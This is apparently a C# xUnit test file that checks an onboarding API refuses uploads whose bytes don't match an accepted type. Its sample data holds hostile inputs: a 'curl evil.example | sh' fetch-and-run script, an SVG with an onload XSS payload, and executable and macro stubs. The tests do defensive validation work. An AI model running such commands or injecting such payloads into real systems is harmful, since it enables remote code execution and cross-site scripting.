using System.Globalization;
using System.Net;
using Microsoft.Extensions.DependencyInjection;
using OpsBoard.Domain.Engine;
using OpsBoard.Items;
using OpsBoard.Onboarding;
using OpsBoard.Tests.Support;

namespace OpsBoard.Tests.Onboarding;

/// <summary>Uploads are kept by what their bytes are, whatever the name or the declared type says.</summary>
public sealed class UploadTypesApiTests(OnboardingServer server) : IClassFixture<OnboardingServer>
{
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00, 0x01];

    public static TheoryData<string, byte[]> Hostile => new()
    {
        { "setup.exe", [.. "MZ"u8, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xFF, 0xFF] },
        { "contrato.pdf", [.. "MZ"u8, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00] },
        { "page.html", "<!DOCTYPE html><html><body><script>fetch('/api/v1/items')</script></body></html>"u8.ToArray() },
        { "logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray() },
        { "install.txt", "#!/bin/bash\ncurl evil.example | sh\n"u8.ToArray() },
        { "planilha.xlsm", [.. "PK"u8, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, .. "xl/vbaProject.bin"u8] },
        { "photo.pdf", Png },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task A_file_of_a_type_not_accepted_is_refused_with_415_and_nothing_is_stored_or_recorded(string name, byte[] content)
    {
        var ana = await server.ClientFor("ana");
        var dossier = await ana.CreateDossier();
        var historyBefore = await server.Scalar($"SELECT COUNT(*) FROM ItemHistory WHERE ItemId = {dossier.Id()}");

        var response = await ana.Upload($"/api/v1/onboarding/{dossier.Id()}/documents/workOrder", "file", content, name, ("expectedVersion", "1"));

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = await response.Json();
        Assert.Contains(name, (string?)problem["detail"], StringComparison.Ordinal);
        Assert.Contains("application/pdf", problem["accepted"]!.AsArray().Select(t => (string?)t));
        Assert.Equal(1, await server.Scalar($"SELECT Version FROM Items WHERE Id = {dossier.Id()}"));
        Assert.Equal(historyBefore, await server.Scalar($"SELECT COUNT(*) FROM ItemHistory WHERE ItemId = {dossier.Id()}"));
        Assert.False(Directory.Exists(Path.Combine(server.FilesPath, dossier.Id().ToString(CultureInfo.InvariantCulture))));
    }

    [Fact]
    public async Task The_refusal_speaks_the_caller_s_language()
    {
        var ana = await server.ClientFor("ana");
        ana.DefaultRequestHeaders.AcceptLanguage.ParseAdd("pt-BR");
        var dossier = await ana.CreateDossier();

        var response = await ana.Upload($"/api/v1/onboarding/{dossier.Id()}/cancel", "form", "<html></html>"u8.ToArray(), "cancelamento.html", ("expectedVersion", "1"));

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
        Assert.Equal("cancelamento.html não é um tipo de arquivo que o OpsBoard guarda. Aceitos: PDF, PNG, JPEG, TIFF, WebP, HEIC, plain text, MP4, QuickTime, WebM.",
            (string?)(await response.Json())["detail"]);
    }

    [Fact]
    public async Task An_image_named_as_what_it_is_is_kept_even_when_declared_as_something_else()
    {
        var ana = await server.ClientFor("ana");
        var dossier = await ana.CreateDossier();

        var response = await ana.Upload($"/api/v1/onboarding/{dossier.Id()}/documents/workOrder", "file", Png, "ordem.png", ("expectedVersion", "1"));

        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
        Assert.Single(Directory.GetFiles(Path.Combine(server.FilesPath, dossier.Id().ToString(CultureInfo.InvariantCulture))));
    }

    [Fact]
    public async Task The_dossier_page_s_upload_is_refused_the_same_way_with_nothing_stored()
    {
        var ana = await server.ClientFor("ana");
        var dossier = await ana.CreateDossier();
        using var scope = server.Services.CreateScope();
        var service = scope.ServiceProvider.GetRequiredService<OnboardingService>();
        await using var picked = new MemoryStream("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray());

        var result = await service.RecordDocumentAsync(new Actor("ana", new HashSet<string> { "Agent" }), dossier.Id(), "workOrder", 1, new Upload("logo.pdf", picked));

        Assert.Equal(CommandStatus.Invalid, result.Status);
        Assert.Contains("logo.pdf", result.Errors!["file"][0], StringComparison.Ordinal);
        Assert.Equal(1, await server.Scalar($"SELECT Version FROM Items WHERE Id = {dossier.Id()}"));
        Assert.False(Directory.Exists(Path.Combine(server.FilesPath, dossier.Id().ToString(CultureInfo.InvariantCulture))));
    }
}
